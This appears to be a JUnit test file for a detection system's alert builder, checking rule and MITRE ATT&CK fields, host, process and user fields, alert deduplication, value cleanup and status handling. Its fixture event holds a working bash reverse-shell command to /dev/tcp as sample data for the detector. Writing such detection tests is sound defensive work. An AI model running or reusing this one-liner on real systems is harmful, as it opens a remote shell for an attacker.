package org.fleetrec.detection.alert;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.fleetrec.model.EventDocument;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

import static org.fleetrec.detection.alert.Fixtures.REVERSE_SHELL;
import static org.fleetrec.detection.alert.Fixtures.exec;
import static org.fleetrec.detection.alert.Fixtures.match;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class AlertTest {
    private static final Duration WINDOW = Duration.ofMinutes(10);
    private static final Instant T = Instant.parse("2026-03-04T10:07:30.123456789Z");
    private static final Instant NOW = Instant.parse("2026-03-04T10:08:00Z");

    @Test
    void theDocumentCarriesRuleThreatHostProcessParentAndUser() {
        EventDocument event = exec("h1", "e1", T, "bash -i >& /dev/tcp/10.0.0.9/443 0>&1")
                .put("source.ip", "10.0.0.5").put("source.port", 51000).put("destination.ip", "10.0.0.9")
                .put("destination.port", "443").put("network.community_id", "1:abc=").put("file.path", "/tmp/x");
        Alert alert = Alert.open(match(Fixtures.REVERSE_SHELL, event, "agent-h1:42"), WINDOW, NOW);
        EventDocument doc = EventDocument.wrap(alert.document());

        assertEquals(T.toString(), doc.text("@timestamp"));
        assertEquals("alert", doc.text("event.kind"));
        assertEquals(73, doc.get("event.severity").asInt());
        assertEquals(REVERSE_SHELL.id(), doc.text("rule.id"));
        assertEquals("Bash reverse shell", doc.text("rule.name"));
        assertEquals("high", doc.text("rule.level"));
        assertEquals(4, doc.get("rule.tags").size());
        assertEquals("MITRE ATT&CK", doc.text("threat.framework"));
        assertEquals(List.of("T1059"), strings(doc.get("threat.technique.id")));
        assertEquals(List.of("T1059.004"), strings(doc.get("threat.technique.subtechnique.id")));
        assertEquals(List.of("Execution", "Command and Control"), strings(doc.get("threat.tactic.name")));

        assertEquals("h1", doc.text("host.id"));
        assertEquals("h1.example", doc.text("host.name"));
        assertEquals("e1", doc.text("process.entity_id"));
        assertEquals(4242, doc.get("process.pid").asLong());
        assertEquals("/usr/bin/bash", doc.text("process.executable"));
        assertEquals("bash -i >& /dev/tcp/10.0.0.9/443 0>&1", doc.text("process.command_line"));
        assertEquals("parent-e1", doc.text("process.parent.entity_id"));
        assertEquals(4000, doc.get("process.parent.pid").asLong());
        assertEquals("sshd: alice [priv]", doc.text("process.parent.command_line"));
        assertEquals("alice", doc.text("user.name"));
        assertEquals("alice", doc.text("user.audit.name"));
        assertEquals("root", doc.text("user.effective.name"));
        assertEquals("/tmp/x", doc.text("file.path"));
        assertEquals("10.0.0.5", doc.text("source.ip"));
        assertEquals(51000, doc.get("source.port").asLong());
        assertEquals(443, doc.get("destination.port").asLong(), "a numeric string port is taken as a number");
        assertTrue(doc.get("destination.port").isNumber());
        assertEquals("1:abc=", doc.text("network.community_id"));

        assertEquals(alert.id(), doc.text("fleet.alert.id"));
        assertEquals("process", doc.text("fleet.alert.scope"));
        assertEquals("fleet-events-process-2026.03.04", doc.text("fleet.alert.event.index"));
        assertEquals("agent-h1:42", doc.text("fleet.alert.event.id"));
        assertEquals(List.of("agent-h1:42"), strings(doc.get("fleet.alert.event.ids")));
        assertEquals("process", doc.text("fleet.alert.event.dataset"));
        assertEquals("executed", doc.text("fleet.alert.event.action"));
        assertEquals(1, doc.get("fleet.alert.count").asLong());
        assertEquals("open", doc.text("fleet.alert.status"));
        assertEquals(NOW.toString(), doc.text("fleet.alert.status_at"));
        assertEquals("2026-03-04T10:00:00Z", doc.text("fleet.alert.window_start"));
        assertEquals("fleet-alerts-2026.03.04", alert.index());
        assertTrue(doc.text("message").startsWith("high: Bash reverse shell on h1.example - /usr/bin/bash (pid 4242) by alice"),
                doc.text("message"));
        // Nothing of the event that the alert does not name: agent, sequence, categories stay in the event.
        assertNull(doc.get("agent"));
        assertNull(doc.get("event.sequence"));
    }

    @Test
    void oneRuleOnOneProcessInOneWindowIsOneId() {
        Alert first = Alert.open(match(REVERSE_SHELL, exec("h1", "e1", T, "a"), "x:1"), WINDOW, NOW);
        Alert sameWindow = Alert.open(match(REVERSE_SHELL, exec("h1", "e1", T.plusSeconds(100), "b"), "x:2"), WINDOW, NOW.plusSeconds(99));
        Alert nextWindow = Alert.open(match(REVERSE_SHELL, exec("h1", "e1", T.plusSeconds(200), "b"), "x:3"), WINDOW, NOW);
        Alert otherProcess = Alert.open(match(REVERSE_SHELL, exec("h1", "e2", T, "a"), "x:4"), WINDOW, NOW);
        Alert otherHost = Alert.open(match(REVERSE_SHELL, exec("h2", "e1", T, "a"), "x:5"), WINDOW, NOW);
        Alert otherRule = Alert.open(match(Fixtures.DISCOVERY, exec("h1", "e1", T, "a"), "x:6"), WINDOW, NOW);
        assertEquals(first.id(), sameWindow.id());
        assertEquals(Alert.id(REVERSE_SHELL.id(), "h1", "e1", Instant.parse("2026-03-04T10:00:00Z")), first.id());
        assertTrue(first.id().matches("[0-9a-f]{32}"));
        for (Alert other : List.of(nextWindow, otherProcess, otherHost, otherRule)) assertNotEquals(first.id(), other.id());
        assertEquals(Instant.parse("2026-03-04T10:10:00Z"), nextWindow.windowStart());
    }

    @Test
    void anEventWithoutProcessIsAHostAlert() {
        EventDocument login = EventDocument.create().put("@timestamp", T.toString()).put("host.id", "h1")
                .put("event.dataset", "auth").put("user.name", "root").put("source.ip", "2001:db8::7");
        Alert alert = Alert.open(match(REVERSE_SHELL, login, "x:1"), WINDOW, NOW);
        assertEquals(Alert.Scope.HOST, alert.scope());
        assertNull(alert.entityId());
        assertEquals(Alert.id(REVERSE_SHELL.id(), "h1", null, Instant.parse("2026-03-04T10:00:00Z")), alert.id());
        assertEquals("2001:db8::7", EventDocument.wrap(alert.document()).text("source.ip"));
        assertEquals("host", EventDocument.wrap(alert.document()).text("fleet.alert.scope"));
    }

    /** The alert mapping is strict and typed: values of the wrong shape are left out, not sent to be refused. */
    @Test
    void valuesOfTheWrongShapeAreLeftOutAndLongOnesCut() {
        String longLine = "x".repeat(20_000) + "\uD83D\uDE00";
        EventDocument event = exec("h1", "e1", T, longLine)
                .put("source.ip", "not-an-ip").put("destination.ip", "300.1.1.1").put("source.port", 70000)
                .put("process.pid", "-5").put("user.name", "");
        event.put("file.path", EventDocument.create().put("nested", "object").json());
        Alert alert = Alert.open(match(REVERSE_SHELL, event, "x:1"), WINDOW, NOW);
        EventDocument doc = EventDocument.wrap(alert.document());
        assertFalse(doc.has("source.ip"));
        assertFalse(doc.has("destination.ip"));
        assertFalse(doc.has("source.port"));
        assertFalse(doc.has("process.pid"));
        assertFalse(doc.has("user.name"));
        assertFalse(doc.has("file.path"));
        String cut = doc.text("process.command_line");
        assertEquals(AlertContext.MAX_COMMAND_LINE, cut.length());
        assertTrue(cut.endsWith("…"));
    }

    @Test
    void aTimestampThatDoesNotParseFallsBackToNowAndAMissingHostIsAClearError() {
        Alert alert = Alert.open(match(REVERSE_SHELL, exec("h1", "e1", T, "a").put("@timestamp", "yesterday"), "x:1"), WINDOW, NOW);
        assertEquals(NOW, alert.firstSeen());
        EventDocument noHost = exec("h1", "e1", T, "a").remove("host.id");
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> Alert.open(match(REVERSE_SHELL, noHost, "x:1"), WINDOW, NOW));
        assertTrue(e.getMessage().contains("host.id"));
    }

    @Test
    void repeatsAndStatusChangesArePartialDocuments() {
        Alert alert = Alert.open(match(REVERSE_SHELL, exec("h1", "e1", T, "a"), "x:1"), WINDOW, NOW)
                .grown(5, T.plusSeconds(60), List.of("x:1", "x:2"));
        ObjectNode progress = alert.progressDocument();
        assertEquals(5, progress.path("fleet").path("alert").path("count").asLong());
        assertEquals(T.plusSeconds(60).toString(), progress.path("fleet").path("alert").path("last_seen").asText());
        assertFalse(progress.path("fleet").path("alert").has("status"), "a repeat never resets an analyst's status");
        assertEquals(1, progress.size(), "only fleet.alert.*");

        Instant at = Instant.parse("2026-03-04T11:00:00Z");
        JsonNode status = AlertDocument.statusChange(Alert.Status.ACKNOWLEDGED, "bob", at).path("fleet").path("alert");
        assertEquals("acknowledged", status.path("status").asText());
        assertEquals("bob", status.path("status_by").asText());
        assertEquals(at.toString(), status.path("status_at").asText());
        Alert acknowledged = alert.withStatus(Alert.Status.ACKNOWLEDGED, "bob", at);
        assertEquals("bob", EventDocument.wrap(acknowledged.document()).text("fleet.alert.status_by"));
        assertEquals(Alert.Status.CLOSED, Alert.Status.parse("Closed"));
        assertThrows(IllegalArgumentException.class, () -> Alert.Status.parse("resolved"));
    }

    @Test
    void levelsRankAndParse() {
        assertEquals(Level.CRITICAL, Level.parse(" Critical "));
        assertTrue(Level.HIGH.atLeast(Level.MEDIUM));
        assertFalse(Level.LOW.atLeast(Level.MEDIUM));
        int previous = 0;
        for (Level level : Level.values()) {
            assertTrue(level.severity() > previous, "event.severity grows with the level");
            previous = level.severity();
        }
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> Level.parse("severe"));
        assertTrue(e.getMessage().contains("informational, low, medium, high, critical"));
    }

    static List<String> strings(JsonNode array) {
        List<String> out = new java.util.ArrayList<>();
        array.forEach(n -> out.add(n.asText()));
        return out;
    }
}
